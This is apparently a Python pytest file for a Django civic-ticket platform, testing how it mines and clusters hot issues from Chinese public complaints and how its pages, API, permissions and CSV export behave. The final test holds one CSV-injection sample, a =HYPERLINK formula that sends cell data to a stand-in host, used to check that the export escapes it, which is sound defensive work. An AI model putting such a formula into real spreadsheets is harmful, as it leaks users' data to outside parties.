"""Hot-issue mining: clustering and heat, the CSV command, tickets, pages, API, permissions."""

import codecs
import contextlib
import csv
import datetime as dt
import json
import re
from unittest import mock

import pytest
from django.contrib.messages import get_messages
from django.core.management import CommandError, call_command
from django.utils import timezone

from gridgov.insights import hotissues, locations, services
from gridgov.insights.models import HotIssue
from gridgov.people.models import Role
from gridgov.tickets import intake
from gridgov.tickets.models import Category, Ticket
from tests.people.factories import user_with_role
from tests.tickets.factories import make_world, ticket_data

T0 = dt.datetime(2019, 7, 1, 9)


@contextlib.contextmanager
def freeze_now(now):
    """Pages that ask for the time get `now` (the monthly topic reads months back from it)."""
    with mock.patch("django.utils.timezone.now", return_value=now):
        yield


def rec(i, title, body="", days=0, user=None, likes=0):
    return hotissues.Record(
        id=i,
        title=title,
        body=body,
        time=T0 + dt.timedelta(days=days),
        user=user or f"u{i}",
        likes=likes,
    )


def parking(i, days, user=None, likes=0):
    return rec(
        i,
        "伊景园滨河苑捆绑销售车位",
        "开发商强制捆绑销售车位，不买车位不给交房。",
        days,
        user,
        likes,
    )


def noise(i, days, user=None):
    return rec(
        i,
        "丽发新城小区附近搅拌站噪音扰民",
        "丽发新城旁边搅拌站日夜施工，噪音粉尘严重。",
        days,
        user,
    )


def test_similar_messages_about_one_place_cluster_and_others_do_not():
    records = [parking(i, i) for i in range(5)] + [noise(10 + i, i) for i in range(3)]
    records.append(rec(20, "孩子学校食堂饭菜太差", "学校食堂饭菜质量差，价格高。"))
    records.append(rec(21, "医院挂号排队太久", "市一医院挂号要排两个小时。"))
    issues = hotissues.mine(records)
    assert [sorted(i.ids) for i in issues] == [[0, 1, 2, 3, 4], [10, 11, 12]]
    top = issues[0]
    assert top.place_label == "伊景园滨河苑"
    assert top.count == 5 and top.requesters == 5
    assert top.first == T0 and top.last == T0 + dt.timedelta(days=4)
    assert top.trend[0] == ("2019-07-01", 1)


def test_the_same_text_about_two_places_is_two_issues():
    a = [rec(i, "伊景园滨河苑小区临街门面油烟扰民", "油烟直排", i) for i in range(3)]
    b = [rec(10 + i, "魅力之城小区临街门面油烟扰民", "油烟直排", i) for i in range(3)]
    issues = hotissues.mine(a + b)
    assert sorted(sorted(i.ids) for i in issues) == [[0, 1, 2], [10, 11, 12]]


def test_the_window_splits_what_is_months_apart():
    issues = hotissues.mine(
        [parking(1, 0), parking(2, 1), parking(3, 120), parking(4, 121)], window_days=30
    )
    assert sorted(sorted(i.ids) for i in issues) == [[1, 2], [3, 4]]


def test_heat_favours_many_people_over_one_person_repeating():
    many = hotissues.heat(6, 6, 0, T0, T0 + dt.timedelta(days=10))[0]
    one = hotissues.heat(6, 1, 0, T0, T0 + dt.timedelta(days=10))[0]
    liked = hotissues.heat(6, 1, 500, T0, T0 + dt.timedelta(days=10))[0]
    slow = hotissues.heat(6, 6, 0, T0, T0 + dt.timedelta(days=300))[0]
    assert many > one and liked > one and many > slow
    assert hotissues.heat(2, 2, 0, T0, T0)[1] == 2  # at least a week: two on one day is 2/week


def test_one_requester_saying_it_again_is_not_a_hot_issue_unless_the_public_reacts():
    repeat = [parking(1, 0, user="wang"), parking(2, 1, user="wang")]
    assert hotissues.mine(repeat) == []  # a repeat call: merged at intake
    liked = [parking(1, 0, user="wang", likes=40), parking(2, 1, user="wang")]
    assert [sorted(i.ids) for i in hotissues.mine(liked)] == [[1, 2]]
    two = [parking(1, 0, user="wang"), parking(2, 1, user="li")]
    assert [i.requesters for i in hotissues.mine(two)] == [2]


def test_one_requester_writing_again_about_the_compound_joins_the_matter_whatever_the_words():
    """The shared data's 绿地海外滩 letters: the residents' letters about the high-speed line
    and one neighbour's two letters about it in other words (similarity about 0.13) were two
    issues in the top ten; the neighbour's second letter ties them together."""
    line = [
        rec(1, "咨询绿地海外滩二期与长赣高铁问题", "高铁线路离我们小区太近，噪音怎么办？", 0),
        rec(2, "绿地海外滩二期业主被高铁噪音扰得快烦死了", "规划的高铁线路离我们小区太近。", 1),
        rec(
            3, "长赣高铁对绿地海外滩二期小区影响太大了", "规划的高铁线路离我们小区太近。", 2, "zhou"
        ),
    ]
    distance = [
        rec(
            4,
            "绿地海外滩小区距渝长厦高铁只有30米",
            "测量了一下，最近的楼距线路不到三十米。",
            3,
            "zhou",
        ),
        rec(
            5,
            "绿地海外滩小区离铁路三十米合理吗",
            "测量了一下，最近的楼距线路不到三十米。",
            4,
            "zhou",
        ),
    ]
    issues = hotissues.mine(line + distance)
    assert [sorted(i.ids) for i in issues] == [[1, 2, 3, 4, 5]]
    # Not when the other letter is from someone else, months later, or names only a district.
    other = [rec(d.id, d.title, d.body, d.id - 1, "wu") for d in distance]
    assert sorted(sorted(i.ids) for i in hotissues.mine(line + other)) == [[1, 2, 3]]
    late = [rec(d.id, d.title, d.body, 90 + d.id, "zhou") for d in distance]
    assert [sorted(i.ids) for i in hotissues.mine(line + late)] == [[1, 2, 3]]
    # One person's letters that share only a district are not tied by it.
    district = [
        rec(6, "A4区高铁规划", days=0, user="qian"),
        rec(7, "A4区学校扩建", days=1, user="qian"),
    ]
    compound = [rec(8, "绿地海外滩小区高铁", days=0, user="qian")]
    compound.append(rec(9, "绿地海外滩二期学校", days=1, user="qian"))
    records = district + compound
    for r in records:
        r.place_label, r.place_level = locations.labelled_place(r.title)
    full = [r.title for r in records]
    assert hotissues._repeats(records, full, dt.timedelta(days=30)) == [(2, 3)]
    # Tickets of different categories are different matters, however close.
    records[2].category, records[3].category = 11, 12
    assert hotissues._repeats(records, full, dt.timedelta(days=30)) == []


def write(path, rows, fields):
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_cli_prints_the_top_issues_and_writes_a_file(tmp_path, capsys):
    rows = [
        {
            "message_id": r.id,
            "title": r.title,
            "body": r.body,
            "time": r.time.strftime("%Y/%m/%d %H:%M:%S"),
            "likes": r.likes,
            "dislikes": 0,
        }  # fmt: skip
        for r in [parking(i, i, likes=3) for i in range(4)] + [noise(10 + i, i) for i in range(3)]
    ]
    rows.append(
        {
            "message_id": 99,
            "title": "x",
            "body": "",
            "time": "not a time",
            "likes": "",
            "dislikes": "",
        }
    )
    source = write(
        tmp_path / "m.csv", rows, ["message_id", "title", "body", "time", "likes", "dislikes"]
    )
    out = tmp_path / "top.json"
    call_command("hotissues", "--input", str(source), "--top", "1", "--output", str(out))
    printed = capsys.readouterr()
    assert "伊景园滨河苑" in printed.out and " 4 messages" in printed.out
    assert "1 rows without a readable time" in printed.err
    data = json.loads(out.read_text(encoding="utf-8"))
    assert len(data) == 1 and data[0]["messages"] == 4 and data[0]["reactions"] == 12
    assert data[0]["message_ids"] == "0 1 2 3"


def test_cli_refuses_a_csv_without_the_needed_columns(tmp_path):
    source = write(tmp_path / "m.csv", [{"title": "伊景园", "time": "2019/1/1"}], ["title", "time"])
    with pytest.raises(CommandError, match="missing column\\(s\\) message_id, body"):
        call_command("hotissues", "--input", str(source))
    with pytest.raises(CommandError, match="Give --input CSV"):
        call_command("hotissues")


# --- tickets ------------------------------------------------------------------------------


@pytest.fixture
def world(db):
    return make_world()


def _tickets(world, n, now, first_phone=0, **fields):
    made = []
    for i in range(n):
        data = ticket_data(
            title="魏家坡小区搅拌站噪音扰民",
            description="小区旁边搅拌站日夜施工，噪音粉尘严重，影响休息。",
            requester_phone=f"1390000{first_phone + i:04d}",
            **fields,
        )
        made.append(
            intake.create_ticket(
                data, actor=world.hotline, now=now - dt.timedelta(hours=5 * i)
            ).ticket
        )
    return made


@pytest.mark.django_db
def test_the_requester_link_ties_tickets_only_under_one_specific_category(world):
    """In the demo, one caller's tickets under 商贸旅游 (a first-level category) at one grid
    (an app account, a driving-school deposit) were joined to a hot issue by the link."""
    now = timezone.now()
    broad = world.community_matter.code
    made = [
        intake.create_ticket(
            ticket_data(category=category, requester_phone="13900001111", title=title),
            actor=world.hotline,
            now=now - dt.timedelta(hours=i),
        ).ticket
        for i, (category, title) in enumerate(
            [
                (broad, "手机应用账号被盗"),
                (broad, "驾校不退押金"),
                (world.corridor.code, "楼道堆物"),
            ]
        )
    ]
    made.append(
        intake.create_ticket(
            ticket_data(category=world.corridor.code, requester_phone="13900001111"),
            actor=world.hotline,
            now=now - dt.timedelta(hours=4),
        ).ticket
    )
    records = hotissues.ticket_records(now - dt.timedelta(days=1), now)
    ids = {t.pk: n for n, t in enumerate(made)}
    assert {ids[r.id]: r.links_requester for r in records} == {0: False, 1: False, 2: True, 3: True}
    pairs = hotissues._repeats(records, [r.title for r in records], dt.timedelta(days=30))
    assert [sorted((ids[records[i].id], ids[records[j].id])) for i, j in pairs] == [[2, 3]]


@pytest.mark.django_db
def test_refresh_builds_hot_issues_from_tickets_and_keeps_decisions(world):
    now = timezone.now()
    tickets = _tickets(world, 4, now, address="魏家坡小区3栋")
    _tickets(
        world, 1, now, first_phone=50, address="魏家坡小区5栋"
    )  # another building, same community: same issue
    assert hotissues.refresh(now=now) == 1
    issue = HotIssue.objects.get()
    assert issue.ticket_count == 5 and issue.requester_count == 5
    assert issue.place == world.grid_a  # 3栋 and 5栋 share the grid
    assert set(tickets) <= set(issue.tickets.all())
    issue.state = HotIssue.State.DISMISSED
    issue.save()
    hotissues.refresh(now=now)
    assert HotIssue.objects.get().state == HotIssue.State.DISMISSED


@pytest.mark.django_db
def test_monthly_topic_is_the_recurring_category_and_area_with_most_tickets(world):
    from gridgov.tickets.models import Category

    now = timezone.make_aware(dt.datetime(2026, 11, 20, 12))  # fixed: months of known length
    environment = Category.objects.get(depth=1, name="环境保护")
    education = Category.objects.get(depth=1, name="教育文体")
    for month in range(3):
        for i in range(3):  # GRIDGOV_MONTHLY_TOPIC_MIN_PER_MONTH
            intake.create_ticket(
                ticket_data(
                    category=environment.code, requester_phone=f"139{month}{i}0000000"[:11]
                ),
                actor=world.hotline,
                now=now - dt.timedelta(days=31 * month + i),
            )
    for _i in range(10):  # more, but only this month: not recurring
        intake.create_ticket(ticket_data(category=education.code), actor=world.hotline, now=now)
    topic = hotissues.monthly_topic(now=now, months=3)
    assert topic["category"] == environment
    assert topic["place"] == world.community
    assert topic["total"] == 9


@pytest.mark.django_db
def test_hot_issue_pages_and_api_are_scoped(world, client):
    from tests.places.factories import make_tree

    now = timezone.now()
    _tickets(world, 3, now, address="魏家坡小区3栋")
    hotissues.refresh(now=now)
    issue = HotIssue.objects.get()
    other = make_tree(key="2", district=world.district, origin=(116.5, 39.9))
    outsider = user_with_role(Role.COMMUNITY_STAFF, other.community, username="outsider")
    resident = world.resident

    client.force_login(world.community_staff)
    page = client.get("/insights/hot/")
    assert page.status_code == 200 and issue.title in page.content.decode()
    assert client.get(f"/insights/hot/{issue.pk}/").status_code == 200
    api = client.get("/api/v1/insights/hot-issues/").json()
    assert [i["id"] for i in api] == [issue.pk]
    response = client.post(
        f"/api/v1/insights/hot-issues/{issue.pk}/decision/", {"action": "dismiss"}
    )
    assert response.status_code == 400  # a dismissal needs a reason
    response = client.post(
        f"/api/v1/insights/hot-issues/{issue.pk}/decision/",
        {"action": "confirm", "note": "街道牵头处理"},
    )
    assert response.status_code == 200 and response.json()["state"] == "confirmed"

    client.force_login(outsider)
    assert client.get("/api/v1/insights/hot-issues/").json() == []
    # Another area's issue is answered as a regrouped (missing) one: the same redirect and
    # message, so the page does not tell that the id exists.
    outside = client.get(f"/insights/hot/{issue.pk}/")
    missing = client.get(f"/insights/hot/{issue.pk + 1000}/")
    assert outside.status_code == missing.status_code == 302
    assert outside["Location"] == missing["Location"]
    said = [str(m) for m in get_messages(outside.wsgi_request)]
    assert said == [str(services.REGROUPED)]
    # (the first answer's message is still in the cookie: the redirect was not followed)
    assert [str(m) for m in get_messages(missing.wsgi_request)][-1:] == said
    assert (
        client.post(
            f"/api/v1/insights/hot-issues/{issue.pk}/decision/", {"action": "reopen"}
        ).status_code
        == 404
    )

    client.force_login(resident)
    assert client.get("/insights/hot/").status_code == 403
    assert client.get("/api/v1/insights/hot-issues/").status_code == 403

    client.force_login(world.street_staff)
    assert client.get("/api/v1/insights/monthly-topic/").status_code == 200


def _recurring(world, category, place, per_month, now, phone_prefix):
    """`per_month` tickets of `category` at `place` in each of the last three months."""
    made = []
    for month in range(3):
        for i in range(per_month):
            made.append(
                intake.create_ticket(
                    ticket_data(
                        category=category.code,
                        requester_phone=f"{phone_prefix}{month}{i:03d}0000"[:11],
                    ),
                    actor=world.hotline,
                    now=now - dt.timedelta(days=31 * month + i),
                ).ticket
            )
    # Placed by hand: the second street repeats the first one's compound names.
    Ticket.objects.filter(pk__in=[t.pk for t in made]).update(place=place)
    return made


@pytest.mark.django_db
def test_the_monthly_topic_is_that_of_the_users_own_area(world, client):
    from tests.places.factories import make_tree

    now = timezone.make_aware(dt.datetime(2026, 11, 20, 12))
    environment = Category.objects.get(depth=1, name="环境保护")
    building = Category.objects.get(depth=1, name="城乡建设")
    other = make_tree(key="2", district=world.district, origin=(116.5, 39.9))
    _recurring(world, environment, world.buildings[0], 3, now, "138")
    _recurring(world, building, other.buildings[0], 4, now, "139")

    # The district sees the busiest pair, in the other street.
    district_topic = hotissues.monthly_topic(now=now, user=world.district_staff)
    assert district_topic["category"] == building and district_topic["place"] == other.community
    assert hotissues.monthly_topic(now=now) == district_topic
    # The street sees its own community, with its own counts.
    topic = hotissues.monthly_topic(now=now, user=world.street_staff)
    assert topic["category"] == environment and topic["place"] == world.community
    assert topic["total"] == 9
    # A grid worker's topic is about their grid, not the whole community.
    topic = hotissues.monthly_topic(now=now, user=world.gridworker_a)
    assert topic["place"] == world.buildings[0].parent == world.grid_a
    outsider = user_with_role(Role.COMMUNITY_STAFF, other.community, username="outsider2")
    assert hotissues.monthly_topic(now=now, user=outsider)["category"] == building
    assert hotissues.monthly_topic(now=now, user=world.resident) is None

    with freeze_now(now):
        client.force_login(world.street_staff)
        page = client.get("/insights/hot/").content.decode()
        card = re.search(r'<section class="panel insights-topic">.*?</section>', page, re.S)
        assert "环境保护" in card.group(0) and "城乡建设" not in card.group(0)
        assert "共 9 件" in card.group(0)
        api = client.get("/api/v1/insights/monthly-topic/").json()
        assert api["topic"]["category"]["name"] == "环境保护" and api["topic"]["total"] == 9


def test_the_daily_trend_counts_local_days():
    """A demand at 02:09 in Shanghai is 18:09 UTC the day before: it counts on its own day."""
    utc = dt.UTC
    night = timezone.make_aware(dt.datetime(2026, 11, 17, 2, 9)).astimezone(utc)
    records = [noise(1, 0), noise(2, 0)]
    records[0].time = timezone.make_aware(dt.datetime(2026, 11, 16, 15, 0)).astimezone(utc)
    records[1].time = night
    (issue,) = hotissues.mine(records)
    assert issue.trend == [("2026-11-16", 1), ("2026-11-17", 1)]
    # Plain (naive) times, as in a CSV, are taken as they are.
    assert hotissues._day(dt.datetime(2026, 11, 17, 2, 9)) == "2026-11-17"


@pytest.mark.django_db
def test_a_decided_hot_issue_offers_only_the_decisions_that_change_it(world, client):
    _tickets(world, 3, timezone.now(), address="魏家坡小区3栋")
    hotissues.refresh()
    issue = HotIssue.objects.get()
    client.force_login(world.community_staff)

    def buttons():
        page = client.get(f"/insights/hot/{issue.pk}/").content.decode()
        return set(re.findall(r'<button[^>]*name="action" value="(\w+)"', page))

    assert buttons() == {"confirm", "dismiss"}
    client.post(f"/insights/hot/{issue.pk}/decide/", {"action": "confirm"})
    issue.refresh_from_db()
    assert issue.state == HotIssue.State.CONFIRMED
    assert buttons() == {"dismiss", "reopen"}
    # Confirming again would only overwrite who decided: refused, in the API too.
    answer = client.post(f"/api/v1/insights/hot-issues/{issue.pk}/decision/", {"action": "confirm"})
    assert answer.status_code == 400
    with pytest.raises(services.DecisionError, match="已确认"):
        services.decide(issue, "confirm", world.community_staff)
    client.post(f"/insights/hot/{issue.pk}/decide/", {"action": "dismiss", "note": "已处理"})
    assert buttons() == {"confirm", "reopen"}


@pytest.mark.django_db
def test_the_decision_record_names_who_decided_as_the_rest_of_the_site_does(world, client):
    """研判记录 printed the login ("community"), where the tickets' timelines name the person
    (魏家坡社区工作者); so did the classifier's record of versions put in use."""
    from gridgov.insights.models import ModelActivation, ModelVersion

    world.community_staff.first_name = "魏家坡社区工作者"
    world.community_staff.save()
    _tickets(world, 3, timezone.now(), address="魏家坡小区3栋")
    hotissues.refresh()
    issue = HotIssue.objects.get()
    client.force_login(world.community_staff)
    client.post(f"/insights/hot/{issue.pk}/decide/", {"action": "confirm", "note": "纳入议题"})
    page = client.get(f"/insights/hot/{issue.pk}/").content.decode()
    record = re.search(r'<ul class="link-list" id="hot-decisions">.*?</ul>', page, re.S).group(0)
    assert "魏家坡社区工作者" in record and "community" not in record

    world.district_staff.first_name = "区级工作人员"
    world.district_staff.save()
    version = ModelVersion.objects.create(version=1, path="/nowhere", fingerprint="x")
    ModelActivation.objects.create(
        version=version, version_number=1, how="staff", activated_by=world.district_staff
    )
    world.street_staff.first_name = "望江街道工作人员"
    world.street_staff.save()
    client.force_login(world.street_staff)
    page = client.get("/insights/classifier/").content.decode()
    changes = re.search(r'<section class="panel" id="activations">.*?</section>', page, re.S)
    assert "区级工作人员" in changes.group(0) and ">district<" not in changes.group(0)


@pytest.mark.django_db
def test_the_trend_charts_draw_the_quiet_days_as_zero(world, client):
    """The stored trend has only the days with demands; drawn as it was, the list's lines ran
    at 1 from 9 to 13 November and the detail's bars stretched across the days between."""
    assert hotissues.daily_series([["2026-11-09", 1], ["2026-11-12", 2]]) == [
        ["2026-11-09", 1],
        ["2026-11-10", 0],
        ["2026-11-11", 0],
        ["2026-11-12", 2],
    ]
    assert hotissues.daily_series([]) == []
    _tickets(world, 3, timezone.now(), address="魏家坡小区3栋")
    hotissues.refresh()
    issue = HotIssue.objects.get()
    issue.trend = [["2026-11-09", 2], ["2026-11-11", 1]]
    issue.save()
    client.force_login(world.community_staff)

    def chart(url, element):
        page = client.get(url).content.decode()
        data = re.search(rf'<script id="{element}" type="application/json">(.*?)</script>', page)
        return json.loads(data.group(1))

    days = [["2026-11-09", 2], ["2026-11-10", 0], ["2026-11-11", 1]]
    assert chart(f"/insights/hot/{issue.pk}/", "hot-trend-data") == days
    assert chart("/insights/hot/", "hot-trends") == [
        {"id": issue.pk, "name": issue.title, "data": days}
    ]


@pytest.mark.django_db
def test_unrelated_matters_in_one_community_are_not_one_hot_issue(world):
    """A street's few tickets: keeping only n-grams found in two texts left just 小区, and
    five different matters of one compound became one hot issue (the review found it)."""
    now = timezone.now()
    matters = [
        ("小区路灯坏了", "晚上看不见路，老人摔倒了"),
        ("小区垃圾没人清运", "天热味道很大，苍蝇多"),
        ("小区停车位不够", "每天晚上车没地方停"),
        ("小区广场舞噪音太吵", "每晚音响开到十点"),
        ("小区楼上漏水", "卫生间天花板一直滴水"),
    ]
    for i, (title, body) in enumerate(matters):
        data = ticket_data(
            title=title,
            description=body,
            address=f"魏家坡小区{i + 1}栋",
            requester_phone=f"1380000{i:04d}",
        )
        intake.create_ticket(data, actor=world.hotline, now=now - dt.timedelta(hours=i))
    hotissues.refresh(now=now)
    assert list(HotIssue.objects.values_list("title", flat=True)) == []


@pytest.mark.django_db
def test_a_dismissal_holds_when_the_issues_first_ticket_leaves_the_window(world):
    """Keyed by its earliest ticket alone, the issue came back as a new one (with the
    dismissed one frozen beside it) once that ticket was older than the window."""
    now = timezone.now()
    tickets = [
        _tickets(world, 1, now - dt.timedelta(days=days), first_phone=i, address="魏家坡小区3栋")[0]
        for i, days in enumerate([25, 10, 5, 2])
    ]
    assert hotissues.refresh(now=now) == 1
    issue = HotIssue.objects.get()
    services.decide(issue, "dismiss", world.community_staff, note="已处理，搅拌站已停工")
    hotissues.refresh(now=now + dt.timedelta(days=10))  # the 25-day-old ticket leaves
    issue = HotIssue.objects.get()  # still one issue, still dismissed, without that ticket
    assert issue.state == HotIssue.State.DISMISSED and issue.key == f"t{tickets[0].pk}"
    assert sorted(issue.tickets.values_list("pk", flat=True)) == [t.pk for t in tickets[1:]]


@pytest.mark.django_db
def test_refresh_reads_each_issues_top_category_with_its_tickets(world):
    """The issue's category is its tickets' commonest top-level one: from the cached
    category tree (one query at most), not one query per ticket and level (2,338 of them,
    4.5 s, in a 30-day refresh of a 500,000-ticket city)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    now = timezone.now()
    _tickets(world, 5, now, address="魏家坡小区3栋", category=world.corridor.code)
    assert world.corridor.depth > 1
    with CaptureQueriesContext(connection) as ctx:
        assert hotissues.refresh(now=now) == 1
    alone = [q["sql"] for q in ctx.captured_queries if 'FROM "tickets_category"' in q["sql"]]
    assert len(alone) <= 1
    assert HotIssue.objects.get().category == world.corridor.top()


MATTERS = [
    ("魏家坡小区搅拌站噪音扰民", "小区旁边搅拌站日夜施工，噪音粉尘严重，影响休息。"),
    ("魏家坡小区路灯全部不亮", "小区东门到3栋的路灯坏了一个多月，晚上一片漆黑。"),
    ("魏家坡小区垃圾站无人清运", "垃圾站的垃圾堆了一周没人清运，臭气熏天。"),
]


def _matter(world, index, now):
    title, body = MATTERS[index]
    for i in range(3):
        data = ticket_data(
            title=title,
            description=body,
            address="魏家坡小区3栋",
            requester_phone=f"1391{index:03d}{i:04d}",
        )
        intake.create_ticket(data, actor=world.hotline, now=now - dt.timedelta(hours=3 * i))


def _refresh_queries(now, issues):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as ctx:
        assert hotissues.refresh(now=now) == issues
    return len(ctx.captured_queries)


@pytest.mark.django_db
def test_refresh_reads_and_writes_all_issues_at_once(world):
    """A refresh's queries do not grow with its issues (one round per issue made a 30-day
    refresh of a 500,000-ticket city 9,245 queries for 1,157 issues): the same for one issue
    as for three, whether they are new or stored already."""
    now = timezone.now()
    _matter(world, 0, now)
    new_one = _refresh_queries(now, 1)
    stored_one = _refresh_queries(now, 1)
    _matter(world, 1, now)
    _matter(world, 2, now)
    HotIssue.objects.all().delete()
    new_three = _refresh_queries(now, 3)
    stored_three = _refresh_queries(now, 3)
    assert (new_three, stored_three) == (new_one, stored_one)
    issues = {i.title: i for i in HotIssue.objects.all()}
    assert sorted(issues) == sorted(title for title, _body in MATTERS)
    for title, _body in MATTERS:
        tickets = Ticket.objects.filter(title=title)
        assert set(issues[title].tickets.all()) == set(tickets)
        assert issues[title].key == f"t{min(t.pk for t in tickets)}"


def test_cli_csv_output_writes_formula_like_text_as_text(tmp_path):
    # Titles and message ids are what the public wrote; opened in Excel or WPS, a cell
    # beginning with = + - @ would be a formula (=HYPERLINK sends data out). The CSV gets
    # the apostrophe Excel reads as "text", as the Excel export types such cells as text.
    title = '=HYPERLINK("http://evil.example/?d="&A2,"伊景园滨河苑捆绑销售车位")'
    rows = [
        {
            "message_id": f"@{i}" if i == 0 else str(i),
            "title": title,
            "body": "开发商强制捆绑销售车位，不买车位不给交房。",
            "time": (T0 + dt.timedelta(days=i)).strftime("%Y/%m/%d %H:%M:%S"),
        }
        for i in range(3)
    ]
    source = write(tmp_path / "m.csv", rows, ["message_id", "title", "body", "time"])
    out = tmp_path / "top.csv"
    call_command("hotissues", "--input", str(source), "--top", "1", "--output", str(out))
    assert out.read_bytes().startswith(codecs.BOM_UTF8)  # or Excel garbles the Chinese
    with open(out, encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["title"] == "'" + title
    assert row["message_ids"].startswith("'@0")
    assert row["rank"] == "1" and row["messages"] == "3"  # numbers as they were
    json_out = tmp_path / "top.json"
    call_command("hotissues", "--input", str(source), "--top", "1", "--output", str(json_out))
    assert json.loads(json_out.read_text(encoding="utf-8"))[0]["title"] == title  # as mined
